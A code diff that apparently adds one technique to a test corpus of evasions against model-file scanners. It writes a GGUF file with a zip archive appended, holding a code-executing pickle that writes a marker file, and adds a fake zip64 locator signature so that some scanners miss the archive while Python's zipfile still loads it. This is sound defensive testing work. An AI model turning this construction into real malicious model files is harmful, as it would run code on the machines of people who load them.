@@ -157,6 +157,20 @@ def zip64_locator_npz(path: Path, marker: Path) -> None:
     path.write_bytes(zip64_two_records([("w.npy", numeric_npy())], [("w.npy", _object_npy(marker))]))
 
 
+@technique("zip-after-gguf-locator-signature-alone", f"{ZIPFILE} (_RealGetContents: an archive appended "
+           "to other data is read shifted; 76 bytes are reckoned for zip64 records only when one is "
+           "found)", LOAD_MEMBERS, ".gguf")
+def zip_after_gguf(path: Path, marker: Path) -> None:
+    """A whole (empty) GGUF file, then an archive whose last central record ends with a locator's
+    signature and no zip64 record: zipfile finds the archive 24 bytes in; a reckoning that takes the
+    signature alone for zip64 records looks 76 bytes further back and finds no directory."""
+    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
+    evil = exec_pickle(marker)
+    body = _local("weights.pkl", evil)
+    directory = _central("weights.pkl", evil, 0, comment=struct.pack("<4sIQI", b"PK\x06\x07", 0, 0, 1))
+    path.write_bytes(gguf + body + directory + _eocd(1, len(directory), len(body)))
+
+
 # --- zip members zipfile inflates and torch's miniz does not ----------------------------------------
 
 @technique("npz-bzip2-member", "CPython zipfile ZIP_BZIP2 (numpy NpzFile)", NUMPY_LOAD, ".npz")
